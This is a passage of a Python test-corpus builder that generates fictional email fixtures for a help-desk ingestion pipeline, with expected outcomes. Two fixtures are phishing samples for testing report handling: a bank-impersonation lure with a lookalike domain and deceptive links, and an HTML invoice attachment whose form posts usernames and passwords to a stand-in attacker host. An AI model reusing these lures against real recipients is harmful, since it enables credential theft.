    text = "Hello,\n\nForwarding the mail from Accounts Payable as an attachment, please check the export.\n\nJonas\n"
    body = multipart(
        "mixed",
        "_002_AM9PR07MB7011D4E5F6A7B8C9_",
        [text_part(text, charset="us-ascii"), rfc822_part(inner, "Invoice 2023-4471 does not match the order.eml")],
    )
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example", "out.kestrel-logistics.example", "203.0.113.14", 15, 14, 20, 5, "4SVQ1k0ZF2zCjN"
                )
            ]
        ),
        ("From", addr("Jonas Berg", "jonas.berg@kestrel-logistics.example")),
        ("To", SUPPORT),
        ("Subject", "FW: Invoice 2023-4471 does not match the order"),
        ("Date", "Wed, 15 Nov 2023 13:20:01 +0000"),
        ("Message-ID", f"<{mid}>"),
        ("X-MS-Has-Attach", "yes"),
        ("Thread-Index", "AdoXuJ3f0n4K5mQ0R2iC9w6p1qz1Aw=="),
    ]
    name = "22_forward_as_attachment.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "Forward as attachment (message/rfc822) to the support mailbox: a normal new ticket with the .eml attached.",
            message_id=mid,
            outcome="new_ticket",
            subject="FW: Invoice 2023-4471 does not match the order",
            from_address="jonas.berg@kestrel-logistics.example",
            from_name="Jonas Berg",
            organisation="Kestrel Logistics",
            text_contains=["Forwarding the mail from Accounts Payable as an attachment"],
            attachments=[attachment("Invoice 2023-4471 does not match the order.eml", "message/rfc822", inner)],
            notes="Only mail to the phishing mailbox becomes a phishing report; size/sha256 are of the embedded message "
            "bytes as transmitted.",
        ),
    )


def phishing_inner_fjellbank() -> tuple[bytes, dict[str, Any]]:
    html = """<html><body>
<p>Kjære kunde,</p>
<p>Your Fjellbank online banking access will be <b>suspended within 24 hours</b> unless you confirm your details.</p>
<p><a href="http://fje11bank.example/l/8f3a2c?u=anna.verbeek">https://online.fjellbank.example/secure-login</a></p>
<p>If the button does not work, use <a href="http://203.0.113.66/fjellbank/confirm.php">the official Fjellbank portal</a>.</p>
<p>Fjellbank Kundeservice</p>
</body></html>
"""
    text = (
        "Kjære kunde,\n\nYour Fjellbank online banking access will be suspended within 24 hours unless you confirm "
        "your details.\n\nhttps://online.fjellbank.example/secure-login\n\nFjellbank Kundeservice\n"
    )
    body = multipart(
        "alternative", "b1_7e3f9a0c2d4b6e8f", [text_part(text, charset="utf-8"), text_part(html, "html", "utf-8")]
    )
    top = [
        ("Return-Path", "<bounce-7731@fje11bank.example>"),
        (
            "Authentication-Results",
            "mx1.hollowbrook.example;\n\tspf=fail (sender IP is 203.0.113.66) smtp.mailfrom=fje11bank.example;"
            "\n\tdkim=none (message not signed) header.d=none;\n\tdmarc=fail action=quarantine header.from=fje11bank.example",
        ),
        (
            "Received",
            "from vps-66.hosting.invalid ([203.0.113.66])\n\tby mx1.hollowbrook.example; Wed, 15 Nov 2023 06:12:40 +0100",
        ),
        ("From", addr("Fjellbank Kundeservice", "kundeservice@fje11bank.example", "utf-8", "Q")),
        ("Reply-To", "secure-verify@fje11bank.example"),
        ("To", "anna.verbeek@hollowbrook.example"),
        ("Subject", "Your account will be suspended"),
        ("Date", date(15, 6, 12, 31)),
        ("Message-ID", "<20231115051231.3F2A1@vps-66.hosting.invalid>"),
    ]
    raw = message(top, body)
    details = {
        "sender_address": "kundeservice@fje11bank.example",
        "sender_domain": "fje11bank.example",
        "reply_to": "secure-verify@fje11bank.example",
        "authentication": {"spf": "fail", "dkim": "none", "dmarc": "fail"},
        "links": [
            {
                "text": "https://online.fjellbank.example/secure-login",
                "target": "http://fje11bank.example/l/8f3a2c?u=anna.verbeek",
            },
            {"text": "the official Fjellbank portal", "target": "http://203.0.113.66/fjellbank/confirm.php"},
        ],
        "link_domains": ["fje11bank.example", "203.0.113.66"],
        "attachments": [],
    }
    return raw, details


@corpus_message
def phishing_report_rfc822() -> Built:
    mid = "AM0PR07MB6411F00DCAFE0001@EXCH01.corp.hollowbrook.example"
    inner, details = phishing_inner_fjellbank()
    text = "Hi,\n\nI received the attached mail this morning. Is this phishing? I did not click the link.\n\nAnna\n"
    filename = "Your account will be suspended.eml"
    body = multipart(
        "mixed", "_002_AM0PR07MB6411F00DCAFE0001_", [text_part(text, charset="us-ascii"), rfc822_part(inner, filename)]
    )
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example",
                    "mail.hollowbrook.example",
                    "198.51.100.23",
                    15,
                    7,
                    2,
                    50,
                    "4SVQ1k0ZP1zDjO",
                    PHISHING,
                )
            ],
            PHISHING,
        ),
        ("From", addr("Anna Verbeek", "anna.verbeek@hollowbrook.example")),
        ("To", PHISHING),
        ("Subject", "Is this phishing? FW: Your account will be suspended"),
        ("Date", "Wed, 15 Nov 2023 07:02:44 +0000"),
        ("Message-ID", f"<{mid}>"),
        ("X-MS-Has-Attach", "yes"),
    ]
    name = "23_phishing_report_rfc822.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "Suspicious mail forwarded as message/rfc822 to the phishing mailbox: lookalike domain fje11bank.example, "
            "links whose text shows another URL, Authentication-Results spf=fail dkim=none dmarc=fail.",
            mailbox=PHISHING,
            message_id=mid,
            outcome="phishing_report",
            subject="Is this phishing? FW: Your account will be suspended",
            from_address="anna.verbeek@hollowbrook.example",
            from_name="Anna Verbeek",
            organisation="Hollowbrook Dairy",
            text_contains=["Is this phishing? I did not click the link."],
            attachments=[attachment(filename, "message/rfc822", inner)],
            phishing=details,
            notes="Nothing of the inner mail is rendered or fetched; every link is shown defanged with its real target.",
        ),
    )


@corpus_message
def phishing_report_eml_octet() -> Built:
    mid = "b2e4c6a8-phish-report@kestrel-logistics.example"
    invoice_html = (
        b"<html><body><form action='http://fje11bank.example/collect' method='post'>"
        b"<input name='user'><input name='password' type='password'></form></body></html>\n"
    )
    inner_body = multipart(
        "mixed",
        "b2_0a1b2c3d4e5f",
        [
            text_part(
                "Please find the overdue invoice attached. Open it in your browser to view it.\n", charset="utf-8"
            ),
            file_part(invoice_html, "text/html", "Invoice_88213.html"),
        ],
    )
    inner_top = [
        (
            "Authentication-Results",
            "mx.kestrel-logistics.example;\n\tspf=fail smtp.mailfrom=kestrel-logistlcs.example;\n\tdkim=none;"
            "\n\tdmarc=fail header.from=kestrel-logistlcs.example",
        ),
        ("From", addr("Accounts Payable", "ap@kestrel-logistlcs.example")),
        ("To", "jonas.berg@kestrel-logistics.example"),
        ("Subject", "Overdue invoice 88213 - final reminder"),
        ("Date", date(15, 5, 58, 10)),
        ("Message-ID", "<88213.reminder@kestrel-logistlcs.example>"),
    ]
    inner = message(inner_top, inner_body)
    text = "Hello security team,\n\nThis looks like our own AP department but the domain is wrong. Attached as .eml.\n\nJonas\n"
    filename = "Overdue invoice 88213.eml"
    body = multipart(
        "mixed",
        "----=_Part_31337_20231115",
        [text_part(text, charset="us-ascii", cte="7bit"), file_part(inner, "application/octet-stream", filename)],
    )
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example",
                    "out.kestrel-logistics.example",
                    "203.0.113.14",
                    15,
                    7,
                    40,
                    2,
                    "4SVQ1k0ZP2zDkP",
                    PHISHING,
                )
            ],
            PHISHING,
        ),
        ("Date", date(15, 7, 39, 55)),
        ("From", addr("Jonas Berg", "jonas.berg@kestrel-logistics.example")),
        ("To", PHISHING),
        ("Subject", "Suspicious invoice mail"),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "24_phishing_report_eml_octet_stream.eml"
    details = {
        "sender_address": "ap@kestrel-logistlcs.example",
        "sender_domain": "kestrel-logistlcs.example",
        "reply_to": None,
        "authentication": {"spf": "fail", "dkim": "none", "dmarc": "fail"},
        "links": [],
        "link_domains": ["fje11bank.example"],
        "attachments": [attachment("Invoice_88213.html", "text/html", invoice_html)],
    }
    return (
        name,
        message(top, body),
        expect(
            name,
            "Suspicious mail attached as a .eml file with Content-Type application/octet-stream (as some clients send "
            "it) to the phishing mailbox; lookalike of the customer's own domain; carries an HTML credential form.",
            mailbox=PHISHING,
            message_id=mid,
            outcome="phishing_report",
            subject="Suspicious invoice mail",
            from_address="jonas.berg@kestrel-logistics.example",
            from_name="Jonas Berg",
            organisation="Kestrel Logistics",
            text_contains=["This looks like our own AP department but the domain is wrong."],
            attachments=[attachment(filename, "application/octet-stream", inner)],
            phishing=details,
            notes="Recognised as a mail by the .eml name/content, not by its declared type. The inner HTML form posts to "
            "fje11bank.example, the link domain of the report in 23_phishing_report_rfc822.eml (Hollowbrook Dairy): the "
            "agent must be shown that the same link target reached another organisation.",
        ),
    )


@corpus_message
def winmail_dat() -> Built:
    mid = "000e01da17b5$1f2e3d40$5d6c7b80$@baeckerei-lindenhof.example"
    log = (
        "2023-11-15 09:40:01 POS-2 boot\r\n2023-11-15 09:40:07 POS-2 driver tse.sys failed (0xC0000142)\r\n"
        "2023-11-15 09:40:07 POS-2 halt\r\n"
    ).encode("ascii")
    blob = tnef("Kassenprotokoll anbei.", [("kasse-log.txt", log)])
    text = "Hallo,\n\nanbei das Protokoll der Kasse 2 (winmail.dat von unserem Outlook).\n\nJörg Müller-Weiß\n"
    body = multipart(
        "mixed",
        "----_=_NextPart_001_01DA17B5.1F2E3D40",
        [text_part(text, charset="iso-8859-1"), file_part(blob, "application/ms-tnef", "winmail.dat")],
    )
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example",
                    "mail.baeckerei-lindenhof.example",
                    "198.51.100.99",
                    15,
                    9,
                    41,
                    30,
                    "4SVQ1k0ZW1zEmQ",
                )
            ]
        ),
        ("From", addr("Jörg Müller-Weiß", "j.mueller-weiss@baeckerei-lindenhof.example", "iso-8859-1", "Q")),
        ("To", SUPPORT),
        ("References", f"<{T63_NOTE}>"),
        ("In-Reply-To", f"<{T63_NOTE}>"),
        ("Subject", "AW: [TD#100063] Kassensystem startet nicht"),
        ("Date", date(15, 9, 41, 22)),
        ("Message-ID", f"<{mid}>"),
        ("X-MS-TNEF-Correlator", "00000000A1B2C3D4E5F60718293A4B5C6D7E8F900700"),
        ("X-Mailer", "Outpost Mail 16.0 (fictional)"),
    ]
    name = "25_winmail_dat_tnef.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "Outlook rich-text mail with a winmail.dat (application/ms-tnef) carrying one text file.",
            message_id=mid,
            outcome="comment",
            ticket_number=100063,
            subject="AW: [TD#100063] Kassensystem startet nicht",
            from_address="j.mueller-weiss@baeckerei-lindenhof.example",
            from_name="Jörg Müller-Weiß",
            organisation="Bäckerei Lindenhof GmbH",
            text_contains=["anbei das Protokoll der Kasse 2"],
            attachments=[attachment("kasse-log.txt", "application/octet-stream", log, extracted_from="winmail.dat")],
            dropped_parts=[
                {
                    "filename": "winmail.dat",
                    "content_type": "application/ms-tnef",
                    "reason": "TNEF container, replaced by the files in it",
                }
            ],
            notes="TNEF structure documented in build_corpus.py (tnef/read_tnef). The extracted file has no declared type: "
            "application/octet-stream (or a type guessed from .txt, text/plain) is acceptable.",
        ),
    )


ICS_REQUEST = """BEGIN:VCALENDAR
PRODID:-//Tierdesk corpus//Fictional Calendar 1.0//EN
VERSION:2.0
METHOD:REQUEST
BEGIN:VEVENT
UID:7b1f3c2e-9a4d-4e5f-8c6b-0d1e2f3a4b5c@kestrel-logistics.example
DTSTAMP:20231115T101500Z
DTSTART:20231120T090000Z
DTEND:20231120T100000Z
SUMMARY:Review of the scanner roll-out with IT support
LOCATION:Warehouse 3\\, meeting room Falcon
ORGANIZER;CN=Jonas Berg:mailto:jonas.berg@kestrel-logistics.example
ATTENDEE;CN=Tierdesk Support;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:support@desk.example
SEQUENCE:0
STATUS:CONFIRMED
END:VEVENT
END:VCALENDAR
"""

ICS_REPLY = f"""BEGIN:VCALENDAR
PRODID:-//Tierdesk corpus//Fictional Calendar 1.0//EN
VERSION:2.0
METHOD:REPLY
BEGIN:VEVENT
UID:{T42_INVITE}
DTSTAMP:20231115T112000Z
DTSTART:20231116T130000Z
DTEND:20231116T140000Z
SUMMARY:[TD#100042] On-site visit: label printer in dispatch
ORGANIZER;CN=Tierdesk Support:mailto:support@desk.example
ATTENDEE;CN=Anna Verbeek;PARTSTAT=ACCEPTED:mailto:anna.verbeek@hollowbrook.example
SEQUENCE:0
END:VEVENT
END:VCALENDAR
"""


@corpus_message
def calendar_invite() -> Built:
    mid = "invite-7b1f3c2e@kestrel-logistics.example"
    ics = crlf(ICS_REQUEST).encode("ascii")
    text = "Jonas Berg has invited you to: Review of the scanner roll-out with IT support\nMonday 20 November 2023, 10:00-11:00 (CET), Warehouse 3, meeting room Falcon\n"
    cal = Part(
        [
            ("Content-Type", 'text/calendar; charset="utf-8"; method=REQUEST; name="invite.ics"'),
            ("Content-Disposition", 'attachment; filename="invite.ics"'),
            ("Content-Transfer-Encoding", "base64"),
        ],
        b64(ics),
    )
    body = multipart("mixed", "=_cal_7b1f3c2e_mixed", [text_part(text, charset="utf-8"), cal])
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example", "out.kestrel-logistics.example", "203.0.113.14", 15, 11, 15, 4, "4SVQ1k0ZC1zFnR"
                )
            ]
        ),
        ("Date", date(15, 11, 15)),
        ("From", addr("Jonas Berg", "jonas.berg@kestrel-logistics.example")),
        ("To", SUPPORT),
        (
            "Subject",
            fold("Invitation: Review of the scanner roll-out with IT support @ Mon 20 Nov 2023 10:00 - 11:00 (CET)"),
        ),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "26_calendar_invite_request.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "iCalendar invitation (text/calendar; method=REQUEST) as an invite.ics attachment.",
            message_id=mid,
            outcome="new_ticket",
            subject="Invitation: Review of the scanner roll-out with IT support @ Mon 20 Nov 2023 10:00 - 11:00 (CET)",
            from_address="jonas.berg@kestrel-logistics.example",
            from_name="Jonas Berg",
            organisation="Kestrel Logistics",
            text_contains=["Jonas Berg has invited you to: Review of the scanner roll-out with IT support"],
            attachments=[attachment("invite.ics", "text/calendar", ics)],
            notes="The invite is kept as an attachment; the pipeline never answers it (no automatic accept/decline).",
        ),
    )


@corpus_message
def calendar_reply() -> Built:
    mid = "AM0PR07MB6411ACCE9700AB12@EXCH01.corp.hollowbrook.example"
    ics = crlf(ICS_REPLY).encode("utf-8")
    subject = "Accepted: [TD#100042] On-site visit: label printer in dispatch"
    cal = Part(
        [("Content-Type", 'text/calendar; charset="utf-8"; method=REPLY'), ("Content-Transfer-Encoding", "base64")],
        b64(ics),
    )
    body = multipart(
        "alternative",
        "_000_AM0PR07MB6411ACCE9700AB12_",
        [text_part("Anna Verbeek has accepted this meeting.\n", charset="utf-8"), cal],
    )
    top = [
        *inbound(HOLLOWBROOK_RECEIVED),
        ("From", addr("Anna Verbeek", "anna.verbeek@hollowbrook.example")),
        ("To", SUPPORT_FROM),
        ("Subject", subject),
        ("Thread-Topic", "[TD#100042] On-site visit: label printer in dispatch"),
        ("Date", "Wed, 15 Nov 2023 11:20:00 +0000"),
        ("Message-ID", f"<{mid}>"),
        ("References", f"<{T42_INVITE}>"),
        ("In-Reply-To", f"<{T42_INVITE}>"),
        ("X-MS-Exchange-Calendar-Series-Instance-Id", "BAAAAIIA4AB0xbcQGoLgCAAAAADA5nYv"),
    ]
    name = "27_calendar_reply.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "Outlook meeting response (text/calendar; method=REPLY, PARTSTAT=ACCEPTED) to an appointment invitation "
            "Tierdesk sent for ticket 100042; the calendar part has no file name.",
            message_id=mid,
            outcome="comment",
            ticket_number=100042,
            subject=subject,
            from_address="anna.verbeek@hollowbrook.example",
            from_name="Anna Verbeek",
            organisation="Hollowbrook Dairy",
            notify_sender=False,
            text_contains=["Anna Verbeek has accepted this meeting."],
            attachments=[attachment(None, "text/calendar", ics)],
            notes="The calendar part is kept as an attachment; the pipeline names it (e.g. 'reply.ics'). Meeting "
            "responses must not trigger a notification back to the sender.",
        ),
    )


@corpus_message
def dsn_bounce() -> Built:
    mid = "20231115101502.8C1D2E3F4A@mx1.hollowbrook.example"
    original_headers = (
        f"Return-Path: <bounces+{T42_NOTE_DISPATCH.split('@')[0]}@desk.example>\n"
        "From: Tierdesk Support <support@desk.example>\n"
        "To: Dispatch <dispatch-old@hollowbrook.example>\n"
        f"Subject: [TD#100042] {T42_SUBJECT}\n"
        "Date: Tue, 14 Nov 2023 22:13:20 +0000\n"
        f"Message-ID: <{T42_NOTE_DISPATCH}>\n"
        f"References: <{T42_ACK}>\n"
        "Auto-Submitted: auto-generated\n"
        "MIME-Version: 1.0\n"
    )
    human = (
        "This is the mail system at host mx1.hollowbrook.example.\n\n"
        "I'm sorry to have to inform you that your message could not\nbe delivered to one or more recipients.\n\n"
        "<dispatch-old@hollowbrook.example>: host mailstore.hollowbrook.example said:\n"
        "    550 5.1.1 <dispatch-old@hollowbrook.example>: Recipient address rejected:\n"
        "    User unknown in virtual mailbox table\n"
    )
    status = (
        "Reporting-MTA: dns; mx1.hollowbrook.example\n"
        "X-Postfix-Queue-ID: 8C1D2E3F4A\n"
        "Arrival-Date: Tue, 14 Nov 2023 23:13:21 +0100 (CET)\n"
        "\n"
        "Final-Recipient: rfc822; dispatch-old@hollowbrook.example\n"
        "Original-Recipient: rfc822;dispatch-old@hollowbrook.example\n"
        "Action: failed\n"
        "Status: 5.1.1\n"
        "Remote-MTA: dns; mailstore.hollowbrook.example\n"
        "Diagnostic-Code: smtp; 550 5.1.1 <dispatch-old@hollowbrook.example>:\n"
        "    Recipient address rejected: User unknown in virtual mailbox table\n"
    )
    body = multipart(
        "report",
        "8C1D2E3F4A.1700039702/mx1.hollowbrook.example",
        [
            Part(
                [("Content-Description", "Notification"), ("Content-Type", "text/plain; charset=us-ascii")],
                crlf(human).encode(),
            ),
            Part(
                [("Content-Description", "Delivery report"), ("Content-Type", "message/delivery-status")],
                crlf(status).encode(),
            ),
            Part(
                [("Content-Description", "Undelivered Message Headers"), ("Content-Type", "text/rfc822-headers")],
                crlf(original_headers).encode(),
            ),
        ],
        params=" report-type=delivery-status;",
        preamble="This is a MIME-encapsulated message.\n\n",
    )
    top = [
        ("Return-Path", "<>"),
        *inbound(
            [received("mx1.desk.example", "mx1.hollowbrook.example", "198.51.100.23", 15, 10, 15, 3, "4SVQ1k0ZB1zGpS")]
        ),
        ("Date", date(15, 10, 15, 2)),
        ("From", "MAILER-DAEMON@mx1.hollowbrook.example (Mail Delivery System)"),
        ("Subject", "Undelivered Mail Returned to Sender"),
        ("To", f"bounces+{T42_NOTE_DISPATCH.split('@')[0]}@desk.example"),
        ("Auto-Submitted", "auto-replied"),
        ("Message-Id", f"<{mid}>"),
    ]
    name = "28_dsn_bounce.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "Postfix-style DSN (multipart/report; report-type=delivery-status) for our notification to a dead address; "
            "the text/rfc822-headers part carries our Message-ID.",
            message_id=mid,
            outcome="bounce",
            ticket_number=100042,
            subject="Undelivered Mail Returned to Sender",
            from_address="MAILER-DAEMON@mx1.hollowbrook.example",
            from_name="Mail Delivery System",
            organisation=None,
            notify_sender=False,
            text_contains=["User unknown in virtual mailbox table"],
            dropped_parts=[
                {
                    "filename": None,
                    "content_type": "message/delivery-status",
                    "reason": "read for the bounce, not shown",
                },
                {"filename": None, "content_type": "text/rfc822-headers", "reason": "read for the bounce, not shown"},
            ],
            bounced_recipient="dispatch-old@hollowbrook.example",
            bounce_status="5.1.1",
            notes="No In-Reply-To: the ticket comes from the Message-ID in the returned headers (and the VERP-style "
            "To address). The address dispatch-old@hollowbrook.example is marked as bouncing; never answered. The "
            "display name comes from the old-style comment form 'addr (Name)'.",
        ),
    )


@corpus_message
def out_of_office() -> Built:
    mid = "ooo-20231115-0831@hollowbrook.example"
    subject = f"Automatisch antwoord: [TD#100042] {T42_SUBJECT}"
    text = (
        "Ik ben afwezig tot en met maandag 20 november. Voor dringende zaken: dispatch@hollowbrook.example.\n\n"
        "I am out of office until Monday 20 November.\n"
    )
    top = [
        ("Return-Path", "<>"),
        *inbound(HOLLOWBROOK_RECEIVED),
        ("Date", date(15, 8, 31)),
        ("From", addr("Sanne Bakker", "sanne.bakker@hollowbrook.example")),
        ("To", SUPPORT),
        ("Subject", subject),
        ("Message-ID", f"<{mid}>"),
        ("In-Reply-To", f"<{T42_NOTE}>"),
        ("References", f"<{T42_NOTE}>"),
        ("Auto-Submitted", "auto-replied"),
        ("X-Autoreply", "yes"),
        ("X-Auto-Response-Suppress", "All"),
        ("Precedence", "auto_reply"),
    ]
    name = "29_out_of_office.eml"
    return (
        name,
        message(top, text_part(text)),
        expect(
            name,
            "Out-of-office auto-reply to our notification: Auto-Submitted: auto-replied, X-Autoreply, empty Return-Path.",
            message_id=mid,
            outcome="ignored_auto_reply",
            ticket_number=100042,
            subject=subject,
            from_address="sanne.bakker@hollowbrook.example",
            from_name="Sanne Bakker",
            organisation="Hollowbrook Dairy",
            notify_sender=False,
            text_contains=["Ik ben afwezig tot en met maandag 20 november."],
            notes="Raw mail stored; no comment, no notification. ticket_number says which ticket it refers to (the "
            "pipeline may log it there, but must not add a public comment or reply).",
        ),
    )


@corpus_message
def other_desk_auto_ack() -> Built:
    mid = "1700040000.9.1.ticket.200311@helpdesk.fjordlys.example"
    subject = "[TD#200311] Received: Your ticket [TD#100071] has been updated"
    text = (
        "Thank you for contacting the Fjordlys internal help desk. Your request has been received as ticket "
        "200311.\nThis is an automatic message.\n"
    )
    top = [
        *inbound(
            [received("mx1.desk.example", "helpdesk.fjordlys.example", "198.51.100.78", 15, 11, 0, 3, "4SVQ1k0ZA1zHqT")]
        ),
        ("Date", date(15, 11, 0)),
        ("From", addr("Fjordlys Help Desk", "helpdesk@fjordlys.example")),
        ("To", SUPPORT),
        ("Subject", subject),
        ("Message-ID", f"<{mid}>"),
        ("In-Reply-To", f"<{T71_NOTE}>"),
        ("References", f"<{T71_NOTE}>"),
        ("Auto-Submitted", "auto-generated"),
        ("Reply-To", "helpdesk@fjordlys.example"),
    ]
    name = "30_auto_ack_other_helpdesk.eml"
    return (
        name,
        message(top, text_part(text)),
        expect(
            name,
            "Another help desk (itself a Tierdesk) acknowledging our notification: Auto-Submitted: auto-generated, its "
            "own ticket tag first. The ping-pong case: must stop here.",
            message_id=mid,
            outcome="ignored_auto_reply",
            ticket_number=100071,
            subject=subject,
            from_address="helpdesk@fjordlys.example",
            from_name="Fjordlys Help Desk",
            organisation="Fjordlys AS",
            notify_sender=False,
            text_contains=["Your request has been received as ticket 200311."],
            notes="Any Auto-Submitted other than 'no' suppresses every automatic message to the sender.",
        ),
    )


@corpus_message
def mailing_list() -> Built:
    mid = "list-8812.1700041111@lists.labelprint.example"
    text = (
        "Firmware 7.3.2 for the TL-400 thermal label printers is available.\n"
        "It fixes blank labels after a sensor calibration. Release notes: https://labelprint.example/fw/7.3.2\n\n"
        "--\nYou receive this because you subscribed to printer-announce.\n"
    )
    top = [
        ("Return-Path", "<printer-announce-bounces@lists.labelprint.example>"),
        *inbound(
            [received("mx1.desk.example", "lists.labelprint.example", "203.0.113.90", 15, 11, 18, 40, "4SVQ1k0ZL1zJrU")]
        ),
        ("Date", date(15, 11, 18, 31, UTC)),
        ("From", addr("LabelPrint Announcements", "announce@labelprint.example")),
        ("To", "printer-announce@lists.labelprint.example"),
        ("Subject", "[printer-announce] Firmware 7.3.2 for TL-400 released"),
        ("Message-ID", f"<{mid}>"),
        ("Precedence", "list"),
        ("List-Id", "Printer announcements <printer-announce.lists.labelprint.example>"),
        ("List-Unsubscribe", "<mailto:printer-announce-leave@lists.labelprint.example>"),
        ("List-Post", "NO"),
        ("Sender", "printer-announce-bounces@lists.labelprint.example"),
    ]
    name = "31_mailing_list.eml"
    return (
        name,
        message(top, text_part(text, charset="us-ascii", cte="7bit")),
        expect(
            name,
            "Mailing-list mail (Precedence: list, List-Id) that the support address is subscribed to; To is the list.",
            message_id=mid,
            outcome="new_ticket",
            subject="[printer-announce] Firmware 7.3.2 for TL-400 released",
            from_address="announce@labelprint.example",
            from_name="LabelPrint Announcements",
            organisation=None,
            notify_sender=False,
            text_contains=["It fixes blank labels after a sensor calibration."],
            notes="Becomes a ticket (unassigned) but no acknowledgement is sent to the list.",
        ),
    )


@corpus_message
def newsletter_bulk() -> Built:
    mid = "nl-2023-11.4471@news.cloudvendor.example"
    html = """<html><body style="background:#f4f4f4">
<table width="600"><tr><td>
<h1>November product news</h1>
<p>Our service status page has moved to a new address.</p>
<p><a href="https://click.cloudvendor.example/t/abc123">Read more</a></p>
<img src="https://click.cloudvendor.example/open/abc123.gif" width="1" height="1">
</td></tr></table></body></html>
"""
    text = "November product news\n\nOur service status page has moved to a new address.\nRead more: https://click.cloudvendor.example/t/abc123\n"
    body = multipart("alternative", "nl_alt_2023_11_4471", [text_part(text), text_part(html, "html")])
    top = [
        ("Return-Path", "<bounce-4471@news.cloudvendor.example>"),
        *inbound(
            [received("mx1.desk.example", "news.cloudvendor.example", "203.0.113.91", 15, 6, 0, 12, "4SVQ1k0ZN1zKsV")]
        ),
        ("Date", date(15, 6, 0, 1, UTC)),
        ("From", addr("CloudVendor News", "news@news.cloudvendor.example")),
        ("To", SUPPORT),
        ("Subject", "November product news"),
        ("Message-ID", f"<{mid}>"),
        ("Precedence", "bulk"),
        (
            "List-Unsubscribe",
            "<https://click.cloudvendor.example/unsub/abc123>, <mailto:unsub-abc123@news.cloudvendor.example>",
        ),
        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
        ("Feedback-ID", "nov23:newsletter:cloudvendor"),
    ]
    name = "32_newsletter_bulk.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "Newsletter with Precedence: bulk and List-Unsubscribe (no List-Id).",
            message_id=mid,
            outcome="new_ticket",
            subject="November product news",
            from_address="news@news.cloudvendor.example",
            from_name="CloudVendor News",
            organisation=None,
            notify_sender=False,
            text_contains=["Our service status page has moved to a new address."],
            notes="Ticket without acknowledgement; the tracking pixel must not be loaded when the HTML is shown.",
        ),
    )


LARGE_NAME = "33_large_attachment_20mb.eml"
LARGE_ATTACHMENT_NAME = "site-survey-recording.mp4"


def large_attachment_message() -> bytes:
    """The 20 MiB message, built in memory (not committed; see the marker file)."""
    video = deterministic_bytes("tierdesk-corpus site-survey-recording.mp4", LARGE_ATTACHMENT_SIZE)
    text = "Hello,\n\nAttached is the recording from the site survey of the cold store, as promised.\n\nAnna\n"
    body = multipart(
        "mixed",
        "=_large_20mb_0001",
        [text_part(text, charset="us-ascii"), file_part(video, "video/mp4", LARGE_ATTACHMENT_NAME)],
    )
    top = [
        *inbound(HOLLOWBROOK_RECEIVED),
        ("Date", date(15, 14, 45)),
        ("From", addr("Anna Verbeek", "anna.verbeek@hollowbrook.example")),
        ("To", SUPPORT),
        ("Subject", "Site survey recording cold store"),
        ("Message-ID", "<large-20mb-0001@mail.hollowbrook.example>"),
    ]
    return message(top, body)


@corpus_message
def large_attachment_marker() -> Built:
    raw = large_attachment_message()
    video = deterministic_bytes("tierdesk-corpus site-survey-recording.mp4", LARGE_ATTACHMENT_SIZE)
    marker = {
        "expands_to": LARGE_NAME,
        "how": "tests.mail.build_corpus.corpus_message_bytes(name) builds it in memory; "
        "`python tests/mail/build_corpus.py --with-large` writes it",
        "size": len(raw),
        "sha256": sha256(raw),
    }
    marker_bytes = (json.dumps(marker, indent=2) + "\n").encode("utf-8")
    return (
        LARGE_NAME + MARKER_SUFFIX,
        marker_bytes,
        expect(
            LARGE_NAME,
            "A mail with a 20 MiB video attachment (about 27 MiB on the wire): the text is ingested, the attachment is "
            "refused by the size limit and the ticket says so.",
            message_id="large-20mb-0001@mail.hollowbrook.example",
            outcome="new_ticket",
            subject="Site survey recording cold store",
            from_address="anna.verbeek@hollowbrook.example",
            from_name="Anna Verbeek",
            organisation="Hollowbrook Dairy",
            text_contains=["Attached is the recording from the site survey of the cold store"],
            refused_attachments=[attachment(LARGE_ATTACHMENT_NAME, "video/mp4", video)],
            generated=True,
            marker=LARGE_NAME + MARKER_SUFFIX,
            notes="Not committed: expanded from the marker at test time. The attachment limit (fixture: 10 MiB) refuses "
            "the file, the message limit must still let the text in; over IMAP the size is known from RFC822.SIZE / "
            "BODYSTRUCTURE before download, so the pipeline can fetch the text part only.",
        ),
    )


@corpus_message
def no_message_id() -> Built:
    text = "Hi,\n\nThe shared calendar 'Dispatch planning' is read-only for me since yesterday.\n\nSanne\n"
    top = [
        *inbound(HOLLOWBROOK_RECEIVED),
        ("Date", date(15, 15, 30)),
        ("From", addr("Sanne Bakker", "sanne.bakker@hollowbrook.example")),
        ("To", SUPPORT),
        ("Subject", "Shared calendar read-only"),
        ("X-Mailer", "LegacyScanMailer 2.0"),
    ]
    name = "34_no_message_id.eml"
    return (
        name,
        message(top, text_part(text, charset="us-ascii", cte="7bit")),
        expect(
            name,
            "No Message-ID header at all (some scripts and old devices send these).",
            message_id=None,
            outcome="new_ticket",
            subject="Shared calendar read-only",
            from_address="sanne.bakker@hollowbrook.example",
            from_name="Sanne Bakker",
            organisation="Hollowbrook Dairy",
            text_contains=["is read-only for me since yesterday."],
            notes="Deduplicated by the SHA-256 of the raw bytes; our outgoing reply must still thread (References empty, "
            "tag in subject).",
        ),
    )


@corpus_message
def no_message_id_redelivered() -> Built:
    name, raw, _ = no_message_id()
    name = "35_no_message_id_redelivered.eml"
    return (
        name,
        raw,
        expect(
            name,
            "Byte-identical second delivery of 34_no_message_id.eml.",
            message_id=None,
            outcome="duplicate",
            subject="Shared calendar read-only",
            from_address="sanne.bakker@hollowbrook.example",
            from_name="Sanne Bakker",
            organisation="Hollowbrook Dairy",
            notify_sender=False,
            text_contains=["is read-only for me since yesterday."],
            duplicate_of="34_no_message_id.eml",
